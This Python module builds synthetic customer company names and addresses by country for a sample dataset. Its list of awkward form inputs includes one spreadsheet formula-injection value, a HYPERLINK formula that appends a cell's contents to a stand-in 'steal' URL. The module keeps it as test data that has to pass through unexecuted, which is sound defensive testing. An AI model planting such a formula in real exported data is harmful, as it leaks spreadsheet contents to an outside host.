"""Names of the sample's customers, by country.

What belongs here: words. What does not: which customer buys what (accounts.py).
"""

from __future__ import annotations

from random import Random

_FIRST = (
    "Northwind",
    "Harbour",
    "Juniper",
    "Redwood",
    "Silver Lake",
    "Copper",
    "Maple",
    "Granite",
    "Bluebird",
    "Lantern",
    "Cedar",
    "Falcon",
    "Orchard",
    "Summit",
    "Willow",
    "Beacon",
    "Quarry",
    "Meadow",
    "Anchor",
    "Saffron",
    "Cobalt",
    "Prairie",
    "Ember",
    "Tidewater",
    "Hollow Oak",
)
_SECOND = (
    "Software",
    "Media",
    "Analytics",
    "Logistics",
    "Studios",
    "Health",
    "Robotics",
    "Archive",
    "Pictures",
    "Labs",
    "Interactive",
    "Travel",
    "Insurance",
    "Publishing",
    "Foods",
    "Energy",
)
_LOCAL: dict[str, tuple[str, ...]] = {
    "DE": ("Lichtspiel", "Altstadt", "Nordlicht", "Grünwald", "Kupferberg", "Weißenfels"),
    "FR": ("Lumière", "Beaurivage", "Château Clair", "Forêt", "Crémieux", "Sainte-Anne"),
    "ES": ("Estudio Ñandú", "Peña Alta", "Sol y Sombra", "Río Claro"),
    "CH": ("Bergsicht", "Matter", "Zürisee", "Engadin"),
    "GR": ("Αρχείο Θεσσαλονίκης", "Τηλεφωνική Κρήτης", "Ελένη Παππά", "Αιγαίο Ψηφιακή"),
    "KZ": ("Студия Северный Свет", "Квантовые Системы", "Алматы Связь", "Южный Архив"),
    "JP": ("東京修復工房", "富士メディア", "桜スタジオ", "京都美術館", "北海道データ"),
    "CN": ("深蓝科技", "晨光设计", "长江影视"),
    "SG": ("晨星数据", "Merlion Cloud", "Straits Media"),
    "IN": ("Banyan Telecom", "Saraswati Studios", "Monsoon Analytics"),
    "BR": ("São Bento Dados", "Estúdio Ipê", "Maré Alta"),
}
_FORMS: dict[str, tuple[str, ...]] = {
    "US": ("Inc", "LLC", "Co"),
    "GB": ("Ltd", "Ltd", "LLP"),
    "CA": ("Inc", "Ltd"),
    "DE": ("GmbH", "AG", "KG"),
    "FR": ("SARL", "SAS"),
    "ES": ("S.L.", "S.A."),
    "CH": ("AG", "GmbH"),
    "GR": ("ΑΕ", "ΕΠΕ"),
    "KZ": ("ТОО", "АО"),
    "JP": ("株式会社", "合同会社"),
    "CN": ("有限公司",),
    "SG": ("Pte Ltd",),
    "IN": ("Pvt Ltd",),
    "BR": ("Ltda", "S.A."),
}

# What people really type into a form; all of it must come through unchanged and unexecuted.
AWKWARD = (
    '=HYPERLINK("http://example.com/steal?"&A1,"Invoice")',
    "+1-800-FLOWERS Reseller",
    'O\'Brien, "The Printer" & Sons',
    "Zoë’s Café — 24/7 ☕",
    "@home Video",
    "شركة النور للإعلام",
)

# A street, a town and where the number goes; the town's line ends the address.
_STREETS: dict[str, tuple[tuple[str, ...], tuple[str, ...], str]] = {
    "US": (
        ("Mission St", "W 34th St", "Harrison Ave", "Congress St"),
        ("San Francisco, CA 94105", "New York, NY 10001", "Austin, TX 78701"),
        "{number} {street}",
    ),
    "GB": (
        ("Clerkenwell Road", "Whitworth Street", "Queen Square"),
        ("London EC1M 5PS", "Manchester M1 3BN", "Bristol BS1 4NT"),
        "{number} {street}",
    ),
    "CA": (
        ("King St W", "Rue Saint-Paul"),
        ("Toronto, ON M5V 1J5", "Montréal, QC H2Y 1H2"),
        "{number} {street}",
    ),
    "DE": (
        ("Torstraße", "Lindenallee", "Hafenstraße"),
        ("10119 Berlin", "50968 Köln", "20457 Hamburg"),
        "{street} {number}",
    ),
    "FR": (
        ("rue de la République", "quai des Célestins"),
        ("69002 Lyon", "75004 Paris"),
        "{number} {street}",
    ),
    "ES": (("Calle de Alcalá", "Gran Vía"), ("28014 Madrid", "48001 Bilbao"), "{street} {number}"),
    "CH": (("Bahnhofstrasse", "Seestrasse"), ("8001 Zürich", "8002 Zürich"), "{street} {number}"),
    "GR": (
        ("Οδός Ερμού", "Λεωφόρος Νίκης"),
        ("105 63 Αθήνα", "546 24 Θεσσαλονίκη"),
        "{street} {number}",
    ),
    "KZ": (("пр. Абая", "ул. Толе би"), ("Алматы 050000",), "{street}, {number}"),
    "JP": (
        ("丸の内", "烏丸通"),
        ("東京都千代田区 100-0005", "京都市 600-8009"),
        "{street} {number}",
    ),
    "CN": (("南京西路", "世纪大道"), ("上海市 200040",), "{street}{number}号"),
    "SG": (("Robinson Road", "Cecil Street"), ("Singapore 068896",), "{number} {street}"),
    "IN": (("Residency Road", "Nariman Point"), ("Bengaluru 560025",), "{number} {street}"),
    "BR": (("Av. Paulista", "Rua Augusta"), ("São Paulo SP 01310-100",), "{street}, {number}"),
}


def address(dice: Random, country: str) -> str:
    """An invented address, its lines separated by a semicolon."""
    streets, towns, form = _STREETS[country]
    line = form.format(street=dice.choice(streets), number=1 + dice.randrange(180))
    return f"{line}; {dice.choice(towns)}"


def company(dice: Random, country: str, taken: set[str]) -> str:
    """A name that no customer has yet; it is added to `taken`."""
    for _ in range(1000):
        words = _LOCAL.get(country)
        if words is None:
            base = f"{dice.choice(_FIRST)} {dice.choice(_SECOND)}"
        else:
            base = dice.choice(words)
            if base in taken or dice.randrange(3) == 0:
                second = dice.choice(_SECOND)
                base = base if second in base else f"{base} {second}"
        name = f"{base} {dice.choice(_FORMS[country])}" if dice.randrange(4) else base
        if name not in taken:
            taken.add(name)
            return name
    raise RuntimeError(f"no names left for {country}: add words")
